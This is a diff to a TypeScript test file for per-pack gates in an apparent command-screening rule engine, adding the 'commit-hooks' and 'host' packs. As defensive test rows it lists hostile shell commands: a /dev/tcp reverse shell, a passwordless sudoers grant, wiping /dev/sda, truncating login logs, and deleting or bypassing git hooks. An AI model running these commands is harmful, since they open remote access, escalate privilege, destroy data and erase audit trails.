@@ -34,9 +34,9 @@ const gated = (): RulePack[] => RULE_PACKS.filter((p) => p.gate && p.checkInvoca
 describe('per-pack gates (s30 perf)', () => {
   afterEach(() => setPackGates(true));
 
-  it('the gated packs: at least access, safety-net, frameworks and checks-removed; no stateful regex flag', () => {
+  it('the gated packs: at least access, safety-net, frameworks, checks-removed, commit-hooks and host; no stateful regex flag', () => {
     const ids = gated().map((p) => p.id);
-    for (const id of ['access', 'safety-net', 'frameworks', 'checks-removed']) assert.ok(ids.includes(id), `${id} declares a gate`);
+    for (const id of ['access', 'safety-net', 'frameworks', 'checks-removed', 'commit-hooks', 'host']) assert.ok(ids.includes(id), `${id} declares a gate`);
     for (const p of gated()) assert.ok(!p.gate!.words?.global && !p.gate!.words?.sticky, `${p.id}: a g or y flag makes test() stateful`);
   });
 
@@ -81,6 +81,21 @@ describe('per-pack gates (s30 perf)', () => {
     { pack: 'checks-removed', command: 'cat .github/workflows/ci.yml', passes: false },
     { pack: 'checks-removed', command: 'ls -la .github/workflows', passes: false },
     { pack: 'checks-removed', command: 'grep -r jest .github', passes: false },
+    { pack: 'commit-hooks', command: 'rm -rf .git/hooks', passes: true },
+    { pack: 'commit-hooks', command: 'chmod -x .husky/pre-commit', passes: true },
+    { pack: 'commit-hooks', command: 'echo exit 0 > .git/hooks/pre-commit', passes: true },
+    { pack: 'commit-hooks', command: 'git commit --no-verify -m x', passes: true },
+    { pack: 'commit-hooks', command: 'husky uninstall', passes: true },
+    { pack: 'commit-hooks', command: 'cat .git/hooks/pre-commit', passes: false },
+    { pack: 'commit-hooks', command: 'ls .husky', passes: false },
+    { pack: 'host', command: 'reboot', passes: true },
+    { pack: 'host', command: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', passes: true },
+    { pack: 'host', command: 'echo "dev ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/dev', passes: true },
+    { pack: 'host', command: 'cp /dev/zero /dev/sda', passes: true },
+    { pack: 'host', command: 'truncate -s0 /var/log/wtmp', passes: true },
+    { pack: 'host', command: 'python3.12 -c "import socket,subprocess"', passes: true },
+    { pack: 'host', command: 'cat /etc/sudoers', passes: false },
+    { pack: 'host', command: 'git status', passes: false },
   ];
   for (const row of COMMAND_ROWS) {
     it(`${row.pack}: ${row.command} → ${row.passes ? 'called' : 'skipped'}`, () => {
